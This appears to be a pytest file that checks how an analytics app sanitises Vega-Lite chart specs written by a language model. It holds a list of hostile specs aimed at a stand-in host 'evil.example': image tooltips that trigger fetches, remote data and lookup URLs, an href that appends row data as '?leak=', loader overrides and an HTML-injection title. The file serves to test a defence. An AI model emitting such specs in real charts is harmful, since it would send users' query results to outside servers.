"""Model-written Vega-Lite on an allow-list: of a hostile spec only the mark and the columns survive, drawn by the
app's own builders with the app's tooltips; whatever the columns are called, no tooltip is one that Vega's
tooltip handler turns into an image (a fetch) or a heading. The browser side is test_chart_hover_browser.py."""

from __future__ import annotations

import json
import re
from typing import Any

import pandas as pd
import pytest
import vl_convert

from analyst.parsing import parse_reply
from charts.choice import build_chart
from charts.hint import ChartHint
from sandbox.database import SessionDatabase

EVIL = "https://evil.example"
QUESTION = "Where are the points?"
# A result whose cells are URLs on the attacker's server, in columns named as vega-tooltip's special keys.
ROWS_SQL = (
    "SELECT i AS x, (i * 7) % 11 AS y, "
    f"'{EVIL}/image-' || i || '.png' AS image, '{EVIL}/title-' || i AS title, ['quake', 'blast'][i % 2 + 1] AS kind "
    "FROM range(1, 13) AS t(i)"
)
POINTS = {"type": "point"}
X_Y = {"x": {"field": "x", "type": "quantitative"}, "y": {"field": "y", "type": "quantitative"}}


def points_with(**extra: Any) -> dict[str, Any]:
    """A plain point chart of x and y, plus ``extra`` top-level keys."""
    return {"mark": "point", "encoding": dict(X_Y), **extra}


HOSTILE_SPECS: dict[str, dict[str, Any]] = {
    "tooltip content data": {"mark": {**POINTS, "tooltip": {"content": "data"}}, "encoding": X_Y},
    "tooltip field image": {"mark": "point", "encoding": {**X_Y, "tooltip": [{"field": "image"}, {"field": "title"}]}},
    "tooltip field image, one": {"mark": "point", "encoding": {**X_Y, "tooltip": {"field": "image"}}},
    "tooltip titled image": {
        "mark": "point",
        "encoding": {**X_Y, "tooltip": [{"field": "kind", "title": "image"}, {"field": "x", "title": "title"}]},
    },
    "href and url in mark": {"mark": {**POINTS, "href": f"{EVIL}/mark", "url": f"{EVIL}/u.png"}, "encoding": X_Y},
    "href expression in mark": {
        "mark": {**POINTS, "href": {"expr": f"'{EVIL}/?' + datum.image"}, "cursor": "pointer"},
        "encoding": X_Y,
    },
    "encoding href": {"mark": "point", "encoding": {**X_Y, "href": {"field": "image"}}},
    "encoding url": {"mark": "point", "encoding": {**X_Y, "url": {"field": "image"}}},
    "usermeta loader": points_with(usermeta={"embedOptions": {"loader": {"baseURL": f"{EVIL}/"}, "tooltip": True}}),
    "config loader and tooltip": points_with(
        config={"loader": {"baseURL": EVIL}, "mark": {"tooltip": {"content": "data"}}, "point": {"href": EVIL}}
    ),
    "datasets": points_with(datasets={"stolen": [{"x": 1, "y": 1, "image": f"{EVIL}/d.png"}]}, data={"name": "stolen"}),
    "data url": points_with(data={"url": f"{EVIL}/collect.csv"}),
    "lookup from a url": points_with(
        transform=[{"lookup": "x", "from": {"data": {"url": f"{EVIL}/lookup.csv"}, "key": "x", "fields": ["y"]}}]
    ),
    "params bound to the page": points_with(
        params=[{"name": "p", "value": EVIL, "bind": {"input": "text", "element": "body"}}]
    ),
    "calculated url as href": {
        "mark": "point",
        "transform": [{"calculate": f"'{EVIL}/?leak=' + datum.image", "as": "link"}],
        "encoding": {**X_Y, "href": {"field": "link"}, "tooltip": {"field": "link"}},
    },
    "signal expressions": points_with(
        params=[{"name": "beacon", "expr": f"'{EVIL}/' + width"}],
        title={"text": {"signal": "beacon"}},
        description={"signal": "beacon"},
    ),
    "hostile channel options": {
        "mark": "point",
        "encoding": {
            "x": {"field": "x", "type": "quantitative", "axis": {"labelExpr": f"'{EVIL}/' + datum.label"}},
            "y": {"field": "y", "type": "quantitative", "scale": {"domain": {"data": f"{EVIL}/d"}}},
            "shape": {"value": "M0,0L1,1"},
        },
    },
    "schema and title": points_with(**{"$schema": f"{EVIL}/schema.json", "title": "<img src=x> ![a](b)"}),
    "hostile layer": {
        "layer": [
            {"mark": {**POINTS, "tooltip": {"content": "data"}}, "encoding": {**X_Y, "href": {"field": "image"}}},
            {"mark": "image", "encoding": {"url": {"field": "image"}}},
        ],
        "resolve": {"scale": {"x": "independent"}},
    },
}


@pytest.fixture(scope="module")
def rows() -> pd.DataFrame:
    return SessionDatabase().run_query(ROWS_SQL).frame


def vega_tooltips(spec: dict[str, Any]) -> list[str]:
    """The tooltip expressions of every mark, as Vega (and so vega-tooltip in the page) gets them."""
    found: list[str] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "tooltip" and isinstance(value, dict) and "signal" in value:
                    found.append(value["signal"])
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(vl_convert.vegalite_to_vega(spec))
    return found


TOOLTIP_KEY = re.compile(r'(?:^\{|, )"((?:[^"\\]|\\.)*)": ')


def markup_tooltips(spec: dict[str, Any]) -> list[str]:
    """Tooltips vega-tooltip would draw as markup: the whole row (``datum``: every column is a key), or an object
    keyed ``image`` (an <img> the browser fetches) or ``title`` (a heading)."""
    return [
        signal
        for signal in vega_tooltips(spec)
        if signal.strip() == "datum" or {"image", "title"} & set(TOOLTIP_KEY.findall(signal))
    ]


def without_data(spec: Any) -> Any:
    """The spec without its inline rows (the URLs in the cells are text there, not something Vega loads)."""
    if isinstance(spec, dict):
        return {k: without_data(v) for k, v in spec.items() if k not in ("datasets", "values")}
    return [without_data(v) for v in spec] if isinstance(spec, list) else spec


def test_the_probe_is_what_it_claims(rows: pd.DataFrame) -> None:
    """Drawn as the model wrote it, the probe's spec asks Vega for the whole row as the tooltip."""
    probe = {**HOSTILE_SPECS["tooltip content data"], "data": {"values": rows.to_dict("records")}}
    assert markup_tooltips(probe) == ["datum"]


@pytest.mark.parametrize("name", HOSTILE_SPECS)
def test_a_hostile_spec_keeps_only_its_mark_and_columns(rows: pd.DataFrame, name: str) -> None:
    hostile = HOSTILE_SPECS[name]
    choice = build_chart(rows, json.loads(json.dumps(hostile)), title=QUESTION)
    assert choice.spec is not None and (choice.source, choice.kind) == ("model", "point")  # a chart is drawn
    # exactly the chart the app draws for "points of x and y": nothing else of the spec survives ...
    assert choice.spec == build_chart(rows, ChartHint("point", "x", "y"), title=QUESTION).spec
    # ... so nothing in it loads, links, binds or computes what the model wrote,
    shape = json.dumps(without_data(choice.spec))
    assert EVIL not in shape and "image" not in shape.lower()
    assert not re.search(r'"(url|href|usermeta|loader|lookup|calculate|expr|signal|labelExpr)"|"bind": \{', shape)
    assert choice.spec["title"]["text"] == QUESTION  # the app's title
    # and its tooltips are the app's own: the columns it draws, by their titles.
    assert markup_tooltips(choice.spec) == []
    assert [t["title"] for t in choice.spec["encoding"]["tooltip"]] == ["X", "Y"]


def test_an_image_mark_is_not_drawn(rows: pd.DataFrame) -> None:
    choice = build_chart(rows, {"mark": "image", "encoding": {**X_Y, "url": {"field": "image"}}}, title=QUESTION)
    assert choice.source == "auto" and choice.spec is not None and "'image' marks" in (choice.note or "")
    assert EVIL not in json.dumps(without_data(choice.spec)) and markup_tooltips(choice.spec) == []


def test_a_reply_with_a_hostile_chart_is_read_to_its_mark_and_columns(rows: pd.DataFrame) -> None:
    """Through the reply parser, as the pipeline gets it: a JSON reply with SQL and the probe's chart."""
    reply = json.dumps({"sql": ROWS_SQL, "chart": HOSTILE_SPECS["tooltip content data"]})
    parsed = parse_reply(f"```json\n{reply}\n```")
    assert parsed.sql == ROWS_SQL
    choice = build_chart(rows, parsed.chart, title=QUESTION)
    assert choice.source == "model" and markup_tooltips(choice.spec) == []


@pytest.mark.parametrize(
    ("spec", "kind", "x"),
    [
        ({"mark": "bar", "encoding": {"x": {"field": "kind"}, "y": {"field": "x"}}}, "bar", "kind"),
        (
            {
                "mark": {"type": "bar"},
                "encoding": {"y": {"field": "kind", "type": "nominal"}, "x": {"field": "x", "type": "quantitative"}},
            },
            "bar",
            "kind",
        ),
        (
            {"mark": "line", "encoding": {"x": {"field": "X"}, "y": {"field": "y"}, "color": {"field": "kind"}}},
            "line",
            "x",
        ),
        ({"mark": "arc", "encoding": {"theta": {"field": "y"}, "color": {"field": "kind"}}}, "arc", None),
        ({"layer": [{"mark": "circle", "encoding": X_Y}]}, "point", "x"),
    ],
)
def test_a_normal_model_spec_still_draws_as_the_model_asked(
    rows: pd.DataFrame, spec: dict[str, Any], kind: str, x: str | None
) -> None:
    choice = build_chart(rows, spec, title=QUESTION)
    assert (choice.source, choice.kind, choice.note) == ("model", kind, None)
    encoding = choice.spec.get("encoding") or choice.spec["layer"][-1]["encoding"]
    drawn = {channel.get("field") for channel in encoding.values() if isinstance(channel, dict)}
    assert x is None or x in drawn
    assert choice.spec["title"]["text"] == QUESTION and markup_tooltips(choice.spec) == []


def test_a_spec_that_computes_its_values_falls_back_to_the_apps_chart(rows: pd.DataFrame) -> None:
    """Vega-Lite aggregates and bins are not drawn from a model spec: the app draws the result's own values."""
    spec = {"mark": "bar", "encoding": {"x": {"field": "kind"}, "y": {"field": "x", "aggregate": "mean"}}}
    choice = build_chart(rows, spec, title=QUESTION)
    assert choice.source == "auto" and "aggregate and bin in the SQL" in (choice.note or "")


APPS_OWN = [
    # (result, what the app draws): columns named as vega-tooltip's special keys, in every chart with tooltips
    ("SELECT image, count(*) AS n FROM t GROUP BY 1", "bar"),
    ("SELECT title, image, x FROM t", "heatmap"),
    ("SELECT kind AS image, title, x FROM t WHERE x <= 4", "bar"),
    ("SELECT x, y, kind AS image FROM t", "point"),
    ("SELECT x AS image, y AS title FROM t", "point"),
    ('SELECT x AS "IMAGE", y AS " title", x + y AS "ımage" FROM t', "point"),
    ("SELECT x AS image FROM t", "histogram"),
    ("SELECT (DATE '2024-01-01' + x::INT)::TIMESTAMP AS title, y AS image FROM t", "line"),
    ("SELECT x AS latitude, y AS longitude, kind AS name, image FROM t", "map"),
]


@pytest.mark.parametrize(("sql", "kind"), APPS_OWN)
def test_the_apps_own_tooltips_never_draw_markup_whatever_the_columns_are_called(sql: str, kind: str) -> None:
    db = SessionDatabase()
    db.add_table("t", db.run_query(ROWS_SQL).frame)
    choice = build_chart(db.run_query(sql).frame, title=QUESTION)
    assert choice.kind == kind and choice.spec is not None
    assert vega_tooltips(choice.spec)  # the chart has tooltips ...
    assert markup_tooltips(choice.spec) == []  # ... none of them drawn as an image or a heading
